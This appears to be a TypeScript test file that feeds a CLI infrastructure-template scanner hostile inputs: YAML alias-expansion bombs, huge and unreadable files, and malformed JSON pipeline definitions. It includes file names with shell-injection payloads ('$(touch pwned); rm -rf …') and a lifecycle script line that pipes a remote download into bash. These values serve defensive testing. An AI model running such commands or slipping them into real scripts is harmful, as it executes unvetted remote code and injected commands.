/**
 * Hostile input through the built CLI: each case is reported (a load error with
 * file and position where there is one, or a note), the scan exits 2 where
 * input could not be read, every other file is still checked, and each case
 * ends within a few seconds of CPU time. The cases of a block run side by side,
 * each in a workspace of its own.
 */
import { execFileSync } from 'node:child_process';
import { closeSync, existsSync, ftruncateSync, openSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCliAsync } from '../e2e/cli.js';
import { expectRestIntact, GOOD_TEMPLATE, scanJson, workspace, type ScanRun } from './workspace.js';

/**
 * CPU seconds every case must end well within: what a quadratic blow-up or a
 * busy loop grows, and what a busy machine (which stretches wall time) leaves alone.
 */
const BOUND_SECONDS = 10;
/**
 * Wall seconds every case must end within: for a hang that spends no CPU (a
 * read that blocks), and far above what the cases take on a machine whose
 * cores other work shares. The tests' own timeout is larger, to report a slow
 * case as such; the CLI is stopped later still (`runCliAsync`).
 */
const WALL_CEILING_SECONDS = 120;
const CASE_TIMEOUT = { timeout: 160_000 };

function expectBounded(scan: ScanRun): void {
  expect(scan.cpuSeconds).toBeLessThan(BOUND_SECONDS);
  expect(scan.seconds).toBeLessThan(WALL_CEILING_SECONDS);
}

describe.concurrent('hostile YAML', CASE_TIMEOUT, () => {
  it('refuses a merge-key bomb (`<<` over lists of aliases) by its expansion, with file and line', async () => {
    const levels = ['a0: &a0 {k0: 0, k1: 1, k2: 2, k3: 3, k4: 4, k5: 5, k6: 6, k7: 7, k8: 8, k9: 9}'];
    for (let i = 1; i <= 9; i++) levels.push(`a${i}: &a${i} {<<: [${Array(10).fill(`*a${i - 1}`).join(', ')}]}`);
    const dir = workspace({ 'bomb.yaml': `${levels.join('\n')}\n${GOOD_TEMPLATE}`, 'good.yaml': GOOD_TEMPLATE });
    const scan = await scanJson(dir);
    expect(scan.run.status).toBe(2);
    expect(scan.report.errors).toEqual([{ file: 'bomb.yaml', line: expect.any(Number), column: expect.any(Number), message: expect.stringMatching(/aliases expand to more than/) }]);
    expectRestIntact(scan);
    expectBounded(scan);
  });

  it('reads a `<<: *previous` chain while its expansion stays bounded, and refuses a longer one by it', async () => {
    const chain = (levels: number) => {
      const lines = ['m0: &m0 {k: v}'];
      for (let i = 1; i < levels; i++) lines.push(`m${i}: &m${i} {<<: *m${i - 1}, k${i}: v}`);
      return `${lines.join('\n')}\n${GOOD_TEMPLATE}`;
    };
    // Each level holds the one before it, so what a chain expands to grows with the square of its length.
    const dir = workspace({ 'short.yaml': chain(200), 'long.yaml': chain(5000), 'good.yaml': GOOD_TEMPLATE });
    const scan = await scanJson(dir);
    expect(scan.run.status).toBe(2);
    expect(scan.report.errors).toEqual([{ file: 'long.yaml', line: expect.any(Number), column: expect.any(Number), message: expect.stringMatching(/aliases expand to more than/) }]);
    expect(scan.report.findings.filter((f) => f.ruleId === 'SM001').map((f) => f.location.file).sort()).toEqual(['good.yaml', 'short.yaml']);
    expectBounded(scan);
  });

  it('keeps positions exact with CRLF and with mixed line endings', async () => {
    const crlf = GOOD_TEMPLATE.replace(/\n/g, '\r\n');
    const mixed = GOOD_TEMPLATE.split('\n').map((line, i) => line + (i % 2 ? '\r' : '')).join('\n');
    const json = JSON.stringify({ Resources: { Notebook: { Type: 'AWS::SageMaker::NotebookInstance', Properties: { InstanceType: 'ml.t3.medium', DirectInternetAccess: 'Enabled' } } } }, null, 2);
    const dir = workspace({ 'lf.yaml': GOOD_TEMPLATE, 'crlf.yaml': crlf, 'mixed.yaml': mixed, 'lf.json': json, 'crlf.json': json.replace(/\n/g, '\r\n') });
    const scan = await scanJson(dir);
    expect(scan.report.errors).toEqual([]);
    const at = (file: string) => scan.report.findings.filter((f) => f.ruleId === 'SM001' && f.location.file === file).map((f) => f.location.start);
    expect(at('lf.yaml')).toEqual([{ line: 6, column: 29, offset: expect.any(Number) }]);
    expect(at('crlf.yaml')).toEqual([{ line: 6, column: 29, offset: offsetOf(at('lf.yaml')[0]) + 5 }]);
    expect(at('mixed.yaml')).toEqual([{ line: 6, column: 29, offset: expect.any(Number) }]);
    expect(at('crlf.json')).toEqual([{ line: at('lf.json')[0]!.line, column: at('lf.json')[0]!.column, offset: expect.any(Number) }]);
  });

  it('handles very long lines, and places findings at the right column on them', async () => {
    const description = `Description: "${'x'.repeat(2_000_000)}"\n`;
    const minified = JSON.stringify({ Description: 'y'.repeat(1_000_000), Resources: { Notebook: { Type: 'AWS::SageMaker::NotebookInstance', Properties: { InstanceType: 'ml.t3.medium', DirectInternetAccess: 'Enabled' } } } });
    const dir = workspace({ 'long.yaml': description + GOOD_TEMPLATE, 'minified.json': minified, 'good.yaml': GOOD_TEMPLATE });
    const scan = await scanJson(dir);
    expect(scan.report.errors).toEqual([]);
    const onMinified = scan.report.findings.find((f) => f.ruleId === 'SM001' && f.location.file === 'minified.json');
    expect(onMinified?.location.start).toEqual({ line: 1, column: minified.indexOf('"Enabled"') + 1, offset: minified.indexOf('"Enabled"') });
    expect(scan.report.findings.find((f) => f.ruleId === 'SM001' && f.location.file === 'long.yaml')?.location.start.line).toBe(7);
    expectRestIntact(scan);
    expectBounded(scan);
  });

  it('scans a template of 50,000 resources in bounded time and memory', async () => {
    const lines = ['Resources:'];
    for (let i = 0; i < 50_000; i++) lines.push(`  Table${i}: {Type: AWS::EC2::RouteTable, Properties: {VpcId: vpc-0123456789abcdef0}}`);
    const dir = workspace({ 'huge.yaml': `${lines.join('\n')}\n${GOOD_TEMPLATE.replace('Resources:\n', '')}` });
    // A heap cap turns runaway memory into a crash, which the exit code shows.
    const scan = await scanJson(dir, ['.'], ['--max-file-size', '64'], { NODE_OPTIONS: '--max-old-space-size=512' });
    expect(scan.run.status).toBe(1);
    expect(scan.report.stats.resources).toBeGreaterThanOrEqual(50_001);
    expect(scan.report.findings.map((f) => f.ruleId)).toContain('SM001');
    expectBounded(scan);
  });
});

describe.concurrent('hostile files', CASE_TIMEOUT, () => {
  it('refuses a 200 MB file by its size, without reading it', async () => {
    const dir = workspace({ 'good.yaml': GOOD_TEMPLATE });
    const fd = openSync(path.join(dir, 'huge.yaml'), 'w');
    ftruncateSync(fd, 200 * 1024 * 1024);
    closeSync(fd);
    const scan = await scanJson(dir);
    expect(scan.run.status).toBe(2);
    expect(scan.report.errors).toEqual([{ file: 'huge.yaml', message: 'file is 200.0 MB, over the 5.0 MB limit (raise it with --max-file-size)' }]);
    expectRestIntact(scan);
    expectBounded(scan);
  });

  it('reports files that cannot be read: a named pipe (which would block a reader) and a read that fails with EIO', async () => {
    // Permission bits do not stop root, which runs CI; a pipe and /proc/self/mem fail for every user.
    const dir = workspace({ 'good.yaml': GOOD_TEMPLATE });
    execFileSync('mkfifo', [path.join(dir, 'pipe.yaml')]);
    const scan = await scanJson(dir, [path.join(dir, 'pipe.yaml'), path.join(dir, 'good.yaml'), '/proc/self/mem']);
    expect(scan.run.status).toBe(2);
    const errors = scan.report.errors.map((e) => `${path.basename(e.file)}: ${e.message}`).sort();
    expect(errors).toEqual(['mem: cannot read file: EIO: i/o error, read', 'pipe.yaml: cannot read file: not a regular file (a named pipe)']);
    expect(scan.report.findings.some((f) => f.ruleId === 'SM001' && f.location.file.endsWith('good.yaml'))).toBe(true);
    expectBounded(scan);
  });

  it('takes file names with spaces, Unicode and shell metacharacters literally', async () => {
    const names = ['stack with spaces.yaml', 'ünïcødé スタック.yaml', "$(touch pwned); rm -rf x | y & 'z'.yaml", '`touch pwned2`.yaml', '--help.yaml'];
    const dir = workspace(Object.fromEntries(names.map((n) => [`infra/${n}`, GOOD_TEMPLATE])));
    const scan = await scanJson(dir, ['infra', `infra/${names[0]}`]);
    expect(scan.run.status).toBe(1);
    expect(scan.report.findings.filter((f) => f.ruleId === 'SM001').map((f) => f.location.file).sort()).toEqual(names.map((n) => `infra/${n}`).sort());
    expect(existsSync(path.join(dir, 'pwned')) || existsSync(path.join(dir, 'pwned2'))).toBe(false);
    const text = await scanText(dir);
    for (const name of names) expect(text).toContain(`infra/${name}:6:29`);
  });
});

describe.concurrent('hostile templates', CASE_TIMEOUT, () => {
  const lifecycle = (script: string) => `Resources:
  Setup:
    Type: AWS::SageMaker::NotebookInstanceLifecycleConfig
    Properties:
      OnStart:
        - Content:
            Fn::Base64: |
${script
  .split('\n')
  .map((l) => `              ${l}`)
  .join('\n')}
`;
  const script = `#!/bin/bash\n${'echo "configuring the notebook instance for the research team"\n'.repeat(10 * 1024 * 1024 / 60)}`;

  it('refuses a template with a 10 MB Fn::Base64 lifecycle script at the default size limit', async () => {
    const dir = workspace({ 'lifecycle.yaml': lifecycle(script), 'good.yaml': GOOD_TEMPLATE });
    const scan = await scanJson(dir);
    expect(scan.run.status).toBe(2);
    expect(scan.report.errors).toEqual([{ file: 'lifecycle.yaml', message: expect.stringMatching(/^file is 1\d\.\d MB, over the 5\.0 MB limit/) }]);
    expectRestIntact(scan);
  });

  it('checks a 10 MB Fn::Base64 lifecycle script in bounded time when the limit allows it', async () => {
    const dir = workspace({ 'lifecycle.yaml': lifecycle(`${script}curl -fsSL https://example.invalid/x.sh | bash\n`), 'good.yaml': GOOD_TEMPLATE });
    const scan = await scanJson(dir, ['.'], ['--max-file-size', '32']);
    expect(scan.report.errors).toEqual([]);
    expectRestIntact(scan);
    expectBounded(scan);
  });

  it('reports a pipeline definition that is not JSON as a load error where the JSON breaks, and checks everything else', async () => {
    const pipeline = `Resources:
  Pipeline:
    Type: AWS::SageMaker::Pipeline
    Properties:
      PipelineName: training
      RoleArn: arn:aws:iam::123456789012:role/pipeline
      PipelineDefinition:
        PipelineDefinitionBody: '{"Version": "2020-12-01", "Steps": [ not json'
`;
    const stateMachine = `{
  "Resources": {
    "Workflow": {
      "Type": "AWS::StepFunctions::StateMachine",
      "Properties": { "RoleArn": "arn:aws:iam::123456789012:role/sfn", "DefinitionString": "{\\"StartAt\\": \\"Train\\", \\"States\\": {]}" }
    }
  }
}
`;
    const dir = workspace({ 'pipeline.yaml': pipeline, 'state-machine.json': stateMachine, 'good.yaml': GOOD_TEMPLATE });
    const scan = await scanJson(dir);
    expect(scan.run.status).toBe(2);
    // Where the JSON breaks: `n` of `not json`, and the `]` in the escaped JSON string.
    expect(scan.report.errors).toEqual([
      { file: 'pipeline.yaml', line: 8, column: 71, message: expect.stringMatching(/^Pipeline: PipelineDefinition\.PipelineDefinitionBody is not valid JSON.*not checked$/) },
      { file: 'state-machine.json', line: 5, column: 131, message: expect.stringMatching(/^Workflow: DefinitionString is not valid JSON.*not checked$/) },
    ]);
    expect(scan.report.notes).toEqual([]);
    expectRestIntact(scan);
  });
});

function offsetOf(position: { offset?: number } | undefined): number {
  if (position?.offset === undefined) throw new Error('the finding has no offset');
  return position.offset;
}

async function scanText(dir: string): Promise<string> {
  return (await runCliAsync(['scan', 'infra', '--format', 'text', '--fail-on', 'none'], { cwd: dir })).stdout;
}
